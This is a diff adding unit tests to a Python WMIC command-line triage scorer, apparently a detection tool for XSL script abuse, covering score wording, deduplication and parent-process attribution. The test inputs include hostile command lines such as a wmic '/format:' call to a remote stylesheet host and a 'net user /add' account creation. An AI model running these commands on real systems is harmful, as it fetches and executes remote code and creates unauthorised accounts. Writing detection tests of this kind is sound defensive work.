@@ -12,6 +12,7 @@ from msgspec.structs import replace
 
 from connectors.model import Alert, Assessment, AssessmentKind
 from runner.wmic import Seen, TriageContext, assess, assess_line, context_of
+from runner.wording import score_text
 
 RECORDED = Path(__file__).parent.parent / "connectors/emulators/data/recorded_t1220.jsonl"
 ROWS: list[dict[str, Any]] = [
@@ -236,3 +237,25 @@ def test_score_is_the_sum_that_the_reasons_show() -> None:
     total = 40 + sum(reason.weight for reason in judged.reasons)
     assert judged.score == max(50, total)
     assert assess_line("wmic os get /format:csv").score == 0
+
+
+def test_score_text_says_where_the_sum_begins_and_which_bound_it_met() -> None:
+    plain = assess_line("wmic os get /format:evil.xsl")
+    assert score_text(plain) == "score 60 of 100 (each line begins at 40)"
+    over = assess(alert("wmic os get /format:http://192.0.2.50/a"), CHILD)
+    assert score_text(over) == (
+        "score 100 of 100 (each line begins at 40; the sum, 140, is held to this)"
+    )
+
+
+def test_same_sentence_twice_counts_once() -> None:
+    once = assess_line("wmic os get /format:evil.xsl")
+    twice = assess_line("wmic os get /format:evil.xsl /format:evil.xsl")
+    assert (twice.score, len(twice.reasons)) == (once.score, len(once.reasons))
+
+
+def test_another_program_is_not_called_wmic() -> None:
+    said = " ".join(weights(assess(alert("net user /add x y", parent="C:\\x\\WmiPrvSE.exe"))))
+    assert "The program was started by wmiprvse.exe" in said
+    assert "format switch" not in said
+    assert "Wmic" not in said
